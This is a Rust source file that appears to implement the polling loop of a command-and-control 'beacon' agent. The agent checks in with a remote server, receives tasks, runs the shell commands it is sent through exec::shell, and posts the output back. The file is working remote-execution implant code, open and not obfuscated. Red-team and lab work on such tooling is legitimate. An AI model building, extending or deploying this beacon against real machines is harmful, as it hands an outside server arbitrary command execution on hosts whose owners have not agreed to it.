// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

//! The sync loop: poll, report, dispatch.
//!
//! Each poll is all-or-nothing: a transport failure or non-200 status
//! leaves the result buffer untouched, and the same results go out again
//! at the next tick. There is no backoff and no request timeout; a flaky
//! server just costs retries.

use parking_lot::Mutex;
use serde_json::json;
use std::sync::Arc;
use std::time::Duration;
use thiserror::Error;
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use roost_core::{codec, BeaconId, Bootstrap, CodecError, SyncReply, SyncUpdate, SystemClock, Task, TaskId, TaskKind};

use crate::buffer::ResultBuffer;
use crate::exec;

/// How long in-flight workers get to finish once a stop is requested.
const STOP_GRACE: Duration = Duration::from_secs(1);

#[derive(Debug, Error)]
pub enum AgentError {
    #[error("request failed: {0}")]
    Http(#[from] reqwest::Error),

    #[error("server returned {0}")]
    Status(reqwest::StatusCode),

    #[error(transparent)]
    Codec(#[from] CodecError),

    #[error("malformed reply: {0}")]
    Reply(#[source] serde_json::Error),
}

/// One beacon: a session id, its server, and the local state of the loop.
pub struct Beacon {
    client: reqwest::Client,
    base: String,
    id: BeaconId,
    interval: Duration,
    results: ResultBuffer,
    stop: CancellationToken,
    clock: SystemClock,
    workers: Mutex<Vec<JoinHandle<()>>>,
}

impl Beacon {
    /// `base` is the server origin, e.g. `http://10.0.0.5:8888`.
    pub fn new(base: impl Into<String>, id: BeaconId, interval: Duration) -> Self {
        Self {
            client: reqwest::Client::new(),
            base: base.into(),
            id,
            interval,
            results: ResultBuffer::new(),
            stop: CancellationToken::new(),
            clock: SystemClock,
            workers: Mutex::new(Vec::new()),
        }
    }

    /// Fetch and decode the bootstrap document from a server.
    pub async fn fetch_bootstrap(base: &str) -> Result<Bootstrap, AgentError> {
        let resp = reqwest::get(format!("{base}/")).await?;
        if !resp.status().is_success() {
            return Err(AgentError::Status(resp.status()));
        }
        let token = resp.text().await?;
        serde_json::from_value(codec::decode(&token)?).map_err(AgentError::Reply)
    }

    pub fn id(&self) -> BeaconId {
        self.id
    }

    pub fn results(&self) -> &ResultBuffer {
        &self.results
    }

    /// Token that ends the loop; cancel it to stop the beacon.
    pub fn stop_token(&self) -> CancellationToken {
        self.stop.clone()
    }

    /// One poll: report buffered results, receive and dispatch new tasks.
    ///
    /// Errors leave the buffer untouched. Acknowledged results (any 200)
    /// are discarded before the reply is even parsed: the server has them.
    pub async fn sync(self: &Arc<Self>) -> Result<(), AgentError> {
        let reported = self.results.snapshot();
        let body = if reported.is_empty() {
            String::new()
        } else {
            codec::encode(&SyncUpdate { results: reported.clone() })?
        };

        let resp = self.client.post(format!("{}/{}", self.base, self.id)).body(body).send().await?;
        if resp.status() != reqwest::StatusCode::OK {
            return Err(AgentError::Status(resp.status()));
        }
        let token = resp.text().await?;

        self.results.discard(reported.keys());

        let reply: SyncReply =
            serde_json::from_value(codec::decode(&token)?).map_err(AgentError::Reply)?;
        for (task_id, task) in reply.tasks {
            self.dispatch(task_id, task);
        }
        Ok(())
    }

    /// Spawn an independent worker for one delivered task.
    fn dispatch(self: &Arc<Self>, task_id: TaskId, task: Task) {
        let beacon = Arc::clone(self);
        let handle = tokio::spawn(async move { beacon.handle_task(task_id, task).await });
        self.workers.lock().push(handle);
    }

    async fn handle_task(self: Arc<Self>, task_id: TaskId, task: Task) {
        let result = match task.kind() {
            TaskKind::Shell { cmd } => {
                info!(task = %task_id, "running shell task");
                let cmd = cmd.to_string();
                exec::shell(&cmd, &self.clock).await
            }
            TaskKind::Stop => {
                info!(task = %task_id, "stop task received");
                self.stop.cancel();
                json!({})
            }
            TaskKind::Unknown => {
                debug!(task = %task_id, "skipping unrecognized task");
                return;
            }
        };
        self.results.record(task_id, result);
    }

    /// Poll until stopped, then flush what finished and wind down.
    pub async fn run(self: Arc<Self>) {
        info!(beacon = %self.id, "sync loop started");
        loop {
            tokio::select! {
                _ = tokio::time::sleep(self.interval) => {}
                _ = self.stop.cancelled() => break,
            }
            if let Err(err) = self.sync().await {
                // dropped on the floor: the next tick retries with the
                // same buffered results
                debug!("sync failed: {err}");
            }
        }

        let mut workers = std::mem::take(&mut *self.workers.lock());
        let drain = async {
            for handle in workers.iter_mut() {
                let _ = handle.await;
            }
        };
        if tokio::time::timeout(STOP_GRACE, drain).await.is_err() {
            warn!("grace period elapsed, aborting in-flight tasks");
            for handle in &workers {
                handle.abort();
            }
        }

        // report whatever finished before the cut-off
        if let Err(err) = self.sync().await {
            debug!("final sync failed: {err}");
        }
        // the final reply may have dispatched more work; none of it runs
        for handle in self.workers.lock().drain(..) {
            handle.abort();
        }
        info!(beacon = %self.id, "stopped");
    }
}

#[cfg(test)]
#[path = "sync_tests.rs"]
mod tests;
